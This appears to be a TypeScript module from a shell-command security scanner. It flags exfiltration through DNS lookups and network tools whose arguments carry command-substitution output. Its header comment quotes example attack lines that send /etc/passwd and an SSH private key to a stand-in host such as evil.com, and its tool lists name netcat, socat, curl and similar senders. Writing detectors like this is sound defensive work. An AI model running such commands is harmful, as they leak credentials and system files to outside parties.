/**
 * Data sent out of the machine inside a network command's arguments:
 * `dig $(cat /etc/passwd | base64).evil.com`, `curl "https://x/?d=$(cat ~/.ssh/id_rsa)"`.
 * The output of the substitution travels to whoever runs the host or the domain's DNS.
 */
import type { Command, Script } from "../parse";
import { allCommands } from "../parse";
import { programName } from "../wrappers";
import { f, type Finding } from "./finding";

const DNS = new Set([
  "dig",
  "nslookup",
  "host",
  "drill",
  "kdig",
  "delv",
  "ping",
  "ping6",
  "traceroute",
  "traceroute6",
  "tracepath",
  "mtr",
  "whois",
  "getent",
]);
const SENDERS = new Set([
  ...DNS,
  "curl",
  "wget",
  "nc",
  "ncat",
  "netcat",
  "socat",
  "telnet",
  "http",
  "https",
  "xh",
  "aria2c",
  "ftp",
  "tftp",
  "lynx",
  "w3m",
]);

/** Substitutions that only print the date or the machine's architecture/release carry no user data (`…/$(uname -m)/tool.tgz`). */
function benign(s: Script): boolean {
  const cmds = [...allCommands(s)];
  return (
    cmds.length > 0 &&
    cmds.every((c) => {
      const p = programName(c.argv[0]);
      return (
        ["date", "seq", "nproc", "arch", "uname", "lsb_release", "getconf"].includes(p) ||
        (p === "dpkg" && c.argv.some((w) => w.text === "--print-architecture"))
      );
    })
  );
}

export function exfiltrationFindings(cmd: Command): Finding[] {
  const prog = programName(cmd.argv[0]);
  if (!SENDERS.has(prog)) return [];
  const out: Finding[] = [];
  const url = cmd.argv
    .map((w) => /^[a-z][a-z0-9+.-]*:\/\/([^/?#:@\s]+)/i.exec(w.text)?.[1])
    .find((h) => h !== undefined);
  for (const w of cmd.argv.slice(1)) {
    if (w.literal !== null || w.subs.length === 0 || w.subs.every(benign)) continue;
    // A word that is only the substitution names where to go (`ping $(ip route | …)`), it carries nothing out.
    if (/^\u0000+$/.test(w.pattern)) continue;
    const from = w.subs.map((s) => `\`${s.source.replace(/\s+/g, " ").trim().slice(0, 60)}\``).join(", ");
    if (DNS.has(prog)) {
      // `$(…).evil.com`: the lookup reaches the DNS servers of the domain after it.
      const domain = w.text.slice(w.text.lastIndexOf(")") + 1).replace(/^\./, "");
      if (!/[A-Za-z0-9-]\.[A-Za-z]/.test(domain)) continue;
      out.push(
        f(
          "dangerous",
          cmd,
          `looks up a name built from the output of ${from}, so the DNS servers for ${domain} receive that output: a way to leak data`,
        ),
      );
    } else {
      out.push(
        f(
          "dangerous",
          cmd,
          `sends the output of ${from} to ${url ?? "the network"} inside its arguments (${w.text}): a way to leak data`,
        ),
      );
    }
  }
  return out;
}
